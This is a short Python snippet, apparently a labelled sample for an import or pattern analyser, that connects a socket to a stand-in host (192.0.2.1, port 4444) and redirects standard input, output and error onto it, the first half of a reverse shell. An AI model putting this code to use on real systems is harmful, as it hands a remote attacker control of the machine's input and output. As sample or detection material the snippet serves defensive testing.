import socket as net, os  #! python.import.socket python.import.os

s = net.socket()
s.connect(("192.0.2.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
